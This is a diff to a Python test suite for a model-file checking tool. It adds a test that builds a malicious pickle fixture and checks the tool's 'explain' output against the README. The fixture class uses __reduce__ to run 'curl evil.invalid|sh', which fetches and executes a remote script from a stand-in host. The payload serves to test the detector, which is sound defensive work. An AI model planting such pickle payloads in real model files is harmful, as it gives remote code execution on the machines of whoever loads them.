@@ -6,13 +6,17 @@ import contextlib
 import importlib
 import io
 import json
+import os
+import pickle
 import re
 import runpy
 import shlex
 from datetime import date
 from pathlib import Path
 
+import numpy as np
 import pytest
+import safetensors.numpy
 from markdown_it import MarkdownIt
 
 from shipworthy.check import all_rules, registry
@@ -142,6 +146,24 @@ def test_the_commands_of_the_readme_work_in_any_repository(
     assert (repository / "shipworthy.toml").is_file()
     assert (tmp_path / "keys" / "release.key").is_file()
     assert "Traceback" not in "".join(capfd.readouterr())
+
+
+def test_the_model_of_the_readme_is_explained_as_it_says(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
+) -> None:
+    class Evil:
+        def __reduce__(self) -> tuple[object, ...]:
+            return os.system, ("curl evil.invalid|sh",)
+
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "model.pkl").write_bytes(pickle.dumps({"weights": [1, 2], "x": Evil()}, 4))
+    safetensors.numpy.save_file({"w": np.ones(3)}, tmp_path / "model.safetensors")
+    section = (ROOT / "README.md").read_text().partition("## One model file")[2].partition("\n## ")[0]
+    calls, printed, code = re.findall(r"^```(?:python)?\n(.*?)^```", section, re.MULTILINE | re.DOTALL)
+    assert "shipworthy explain model.pkl" in calls
+    assert main(["explain", "model.pkl"]) == 0
+    assert capfd.readouterr().out.strip() == printed.strip()
+    exec(code, {})
 
 
 def test_make_targets_that_are_named_are_there() -> None:
